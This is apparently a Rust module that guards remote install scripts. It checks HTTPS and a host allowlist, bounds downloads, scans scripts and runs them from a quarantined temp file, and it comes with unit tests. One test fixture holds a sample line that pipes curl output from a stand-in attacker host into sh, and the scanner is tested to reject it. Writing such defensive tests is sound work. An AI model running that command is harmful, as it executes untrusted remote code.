//! Download-validate-execute guard for remote install scripts.
//!
//! A `curl <url> | sh` install never pipes the network into a shell. The
//! script is fetched over HTTPS from a trusted origin into a private temp
//! file with size and time bounds, scanned, and only then executed from
//! disk. The temp file is removed afterwards regardless of the outcome.

mod quarantine;
mod scan;

use std::future::Future;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use reqwest::Url;
use reqwest::redirect;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

pub use quarantine::Quarantine;
pub use scan::{ScanReport, ScriptScanner};

use crate::config::InstallerConfig;
use crate::error::{DownloadError, InstallError};

/// Origins that serve well-known installer scripts.
pub const DEFAULT_TRUSTED_HOSTS: &[&str] = &[
    "sh.rustup.rs",
    "raw.githubusercontent.com",
    "github.com",
    "objects.githubusercontent.com",
    "get.docker.com",
    "mise.run",
    "mise.jdx.dev",
    "deb.nodesource.com",
    "starship.rs",
    "bun.sh",
    "deno.land",
    "astral.sh",
    "install.python-poetry.org",
    "get.sdkman.io",
    "fnm.vercel.app",
];

const MAX_REDIRECTS: usize = 5;

#[derive(Debug, Clone)]
pub struct DownloadPolicy {
    pub trusted_hosts: Vec<String>,
    pub max_bytes: u64,
    pub timeout: Duration,
}

impl Default for DownloadPolicy {
    fn default() -> Self {
        Self {
            trusted_hosts: DEFAULT_TRUSTED_HOSTS.iter().map(|h| h.to_string()).collect(),
            max_bytes: 5 * 1024 * 1024,
            timeout: Duration::from_secs(30),
        }
    }
}

impl DownloadPolicy {
    pub fn from_config(config: &InstallerConfig) -> Self {
        Self {
            trusted_hosts: config.trusted_script_hosts.clone(),
            max_bytes: config.download_max_bytes,
            timeout: config.download_timeout(),
        }
    }

    /// Check scheme and host. Makes no network calls.
    pub fn check_url(&self, raw: &str) -> Result<Url, DownloadError> {
        check_url(&self.trusted_hosts, raw)
    }
}

fn check_url(trusted_hosts: &[String], raw: &str) -> Result<Url, DownloadError> {
    let url = Url::parse(raw.trim()).map_err(|_| DownloadError::InvalidUrl(raw.to_string()))?;
    if url.scheme() != "https" {
        return Err(DownloadError::NonHttps(raw.to_string()));
    }
    if !url.username().is_empty() || url.password().is_some() {
        return Err(DownloadError::InvalidUrl(raw.to_string()));
    }
    let host = url
        .host_str()
        .ok_or_else(|| DownloadError::InvalidUrl(raw.to_string()))?
        .to_ascii_lowercase();
    if !is_trusted(trusted_hosts, &host) {
        return Err(DownloadError::UntrustedDomain(host));
    }
    Ok(url)
}

fn is_trusted(trusted_hosts: &[String], host: &str) -> bool {
    trusted_hosts.iter().any(|h| h.eq_ignore_ascii_case(host))
}

/// Fetches, scans and runs remote install scripts.
pub struct ScriptGuard {
    client: reqwest::Client,
    policy: DownloadPolicy,
    scanner: ScriptScanner,
}

impl ScriptGuard {
    pub fn new(policy: DownloadPolicy) -> Result<Self, DownloadError> {
        let hosts = Arc::new(policy.trusted_hosts.clone());
        // Redirects may only lead to other trusted origins.
        let redirects = redirect::Policy::custom(move |attempt| {
            if attempt.previous().len() >= MAX_REDIRECTS {
                return attempt.error("too many redirects");
            }
            let allowed = attempt.url().scheme() == "https"
                && attempt
                    .url()
                    .host_str()
                    .is_some_and(|host| is_trusted(&hosts, host));
            if allowed {
                attempt.follow()
            } else {
                attempt.stop()
            }
        });

        let client = reqwest::Client::builder()
            .timeout(policy.timeout)
            .redirect(redirects)
            .https_only(true)
            .user_agent(concat!("rusty-installer/", env!("CARGO_PKG_VERSION")))
            .build()?;

        let max_scan = usize::try_from(policy.max_bytes).unwrap_or(usize::MAX);
        Ok(Self {
            client,
            scanner: ScriptScanner::builtin(max_scan),
            policy,
        })
    }

    pub fn with_scanner(mut self, scanner: ScriptScanner) -> Self {
        self.scanner = scanner;
        self
    }

    pub fn policy(&self) -> &DownloadPolicy {
        &self.policy
    }

    pub fn check_url(&self, raw: &str) -> Result<Url, DownloadError> {
        self.policy.check_url(raw)
    }

    /// Download `url`, scan it, and hand the local command to `run`.
    ///
    /// `run` receives `bash <quarantined path>` and is expected to execute it
    /// through the command executor. Nothing reaches `run` unless the URL,
    /// download and content checks all pass.
    pub async fn fetch_and_run<F, Fut>(
        &self,
        token: &CancellationToken,
        url: &str,
        app: &str,
        run: F,
    ) -> Result<(), InstallError>
    where
        F: FnOnce(String) -> Fut,
        Fut: Future<Output = Result<(), InstallError>>,
    {
        let url = self.check_url(url)?;
        if token.is_cancelled() {
            return Err(InstallError::Cancelled);
        }

        let quarantine = Quarantine::create(app)?;
        let body = self.download(token, &url).await?;
        info!("downloaded {} bytes for {} from {}", body.len(), app, url);
        self.run_quarantined(quarantine, body, app, run).await
    }

    /// Scan `body`, write it into `quarantine` and hand `bash <path>` to
    /// `run`. The quarantine file is removed on every path out.
    async fn run_quarantined<F, Fut>(
        &self,
        mut quarantine: Quarantine,
        body: Vec<u8>,
        app: &str,
        run: F,
    ) -> Result<(), InstallError>
    where
        F: FnOnce(String) -> Fut,
        Fut: Future<Output = Result<(), InstallError>>,
    {
        let report = self.scanner.scan(&body)?;
        debug!(
            "script for {} passed the content scan ({} bytes, shebang: {})",
            app, report.size, report.has_shebang
        );

        quarantine.write_all(&body)?;
        drop(body);

        let command = script_command(quarantine.path());
        let result = run(command).await;
        debug!("removing quarantined script {}", quarantine.path().display());
        drop(quarantine);
        result
    }

    async fn download(&self, token: &CancellationToken, url: &Url) -> Result<Vec<u8>, InstallError> {
        let limit = self.policy.max_bytes;
        let fetch = async {
            let mut response = self.client.get(url.clone()).send().await?;
            let status = response.status();
            if !status.is_success() {
                return Err(DownloadError::HttpStatus(status.as_u16()));
            }
            if response.content_length().is_some_and(|len| len > limit) {
                return Err(DownloadError::TooLarge { limit });
            }

            let mut body = Vec::new();
            while let Some(chunk) = response.chunk().await? {
                if (body.len() + chunk.len()) as u64 > limit {
                    return Err(DownloadError::TooLarge { limit });
                }
                body.extend_from_slice(&chunk);
            }
            Ok::<_, DownloadError>(body)
        };

        tokio::select! {
            _ = token.cancelled() => Err(InstallError::Cancelled),
            result = tokio::time::timeout(self.policy.timeout, fetch) => match result {
                Ok(Ok(body)) => Ok(body),
                Ok(Err(DownloadError::Request(e))) if e.is_timeout() => {
                    warn!("download of {} timed out", url);
                    Err(DownloadError::TimedOut(self.policy.timeout).into())
                }
                Ok(Err(e)) => Err(e.into()),
                Err(_) => Err(DownloadError::TimedOut(self.policy.timeout).into()),
            },
        }
    }
}

fn script_command(path: &Path) -> String {
    format!("bash {}", path.display())
}

#[cfg(test)]
mod tests {
    use std::sync::atomic::{AtomicBool, Ordering};

    use super::*;

    fn guard() -> ScriptGuard {
        ScriptGuard::new(DownloadPolicy::default()).unwrap()
    }

    #[test]
    fn test_check_url_accepts_trusted_https() {
        let url = guard().check_url("https://sh.rustup.rs").unwrap();
        assert_eq!(url.host_str(), Some("sh.rustup.rs"));
        assert!(guard().check_url("https://Get.Docker.com/").is_ok());
    }

    #[test]
    fn test_check_url_rejects_scheme_and_host() {
        assert!(matches!(
            guard().check_url("http://sh.rustup.rs"),
            Err(DownloadError::NonHttps(_))
        ));
        assert!(matches!(
            guard().check_url("https://evil.example.com/install.sh"),
            Err(DownloadError::UntrustedDomain(host)) if host == "evil.example.com"
        ));
        assert!(matches!(
            guard().check_url("https://sh.rustup.rs.evil.example/"),
            Err(DownloadError::UntrustedDomain(_))
        ));
        assert!(matches!(
            guard().check_url("https://user@sh.rustup.rs/"),
            Err(DownloadError::InvalidUrl(_))
        ));
        assert!(matches!(
            guard().check_url("not a url"),
            Err(DownloadError::InvalidUrl(_))
        ));
    }

    #[tokio::test]
    async fn test_rejected_url_never_runs() {
        let ran = AtomicBool::new(false);
        let flag = &ran;
        let err = guard()
            .fetch_and_run(
                &CancellationToken::new(),
                "http://evil.example.com/x.sh",
                "evil",
                move |_| async move {
                    flag.store(true, Ordering::SeqCst);
                    Ok(())
                },
            )
            .await
            .unwrap_err();
        assert!(matches!(
            err,
            InstallError::Download(DownloadError::NonHttps(_))
        ));
        assert!(!ran.load(Ordering::SeqCst));
    }

    #[tokio::test]
    async fn test_cancelled_before_download() {
        let token = CancellationToken::new();
        token.cancel();
        let err = guard()
            .fetch_and_run(&token, "https://sh.rustup.rs", "rustup", |_| async { Ok(()) })
            .await
            .unwrap_err();
        assert!(err.is_cancelled());
    }

    const CLEAN: &[u8] = b"#!/bin/sh\necho installed\n";

    #[tokio::test]
    async fn test_clean_script_runs_from_quarantine() {
        let dir = tempfile::tempdir().unwrap();
        let quarantine = Quarantine::create_in(dir.path(), "bun").unwrap();
        let path = quarantine.path().to_path_buf();

        let mut seen = None;
        guard()
            .run_quarantined(quarantine, CLEAN.to_vec(), "bun", |command| {
                seen = Some(command.clone());
                let on_disk = std::fs::read(&path).unwrap();
                async move {
                    assert_eq!(on_disk, CLEAN);
                    Ok(())
                }
            })
            .await
            .unwrap();

        assert_eq!(seen, Some(format!("bash {}", path.display())));
        assert!(!path.exists());
    }

    #[tokio::test]
    async fn test_scan_rejection_never_runs() {
        let dir = tempfile::tempdir().unwrap();
        let quarantine = Quarantine::create_in(dir.path(), "evil").unwrap();
        let path = quarantine.path().to_path_buf();
        let ran = AtomicBool::new(false);
        let flag = &ran;

        let err = guard()
            .run_quarantined(
                quarantine,
                b"#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n".to_vec(),
                "evil",
                move |_| async move {
                    flag.store(true, Ordering::SeqCst);
                    Ok(())
                },
            )
            .await
            .unwrap_err();

        assert!(matches!(err, InstallError::ScriptContent(_)));
        assert!(!ran.load(Ordering::SeqCst));
        assert!(!path.exists());
    }

    #[tokio::test]
    async fn test_failed_run_still_removes_script() {
        let dir = tempfile::tempdir().unwrap();
        let quarantine = Quarantine::create_in(dir.path(), "bun").unwrap();
        let path = quarantine.path().to_path_buf();

        let err = guard()
            .run_quarantined(quarantine, CLEAN.to_vec(), "bun", |_| async {
                Err(InstallError::Cancelled)
            })
            .await
            .unwrap_err();

        assert!(err.is_cancelled());
        assert!(!path.exists());
    }

    #[test]
    fn test_policy_from_config() {
        let config = InstallerConfig {
            download_max_bytes: 1024,
            trusted_script_hosts: vec!["scripts.internal".to_string()],
            ..InstallerConfig::default()
        };
        let policy = DownloadPolicy::from_config(&config);
        assert_eq!(policy.max_bytes, 1024);
        assert!(policy.check_url("https://scripts.internal/setup.sh").is_ok());
        assert!(policy.check_url("https://sh.rustup.rs").is_err());
    }

    #[test]
    fn test_script_command() {
        assert_eq!(
            script_command(Path::new("/tmp/rusty-installer-bun-abc.sh")),
            "bash /tmp/rusty-installer-bun-abc.sh"
        );
    }
}
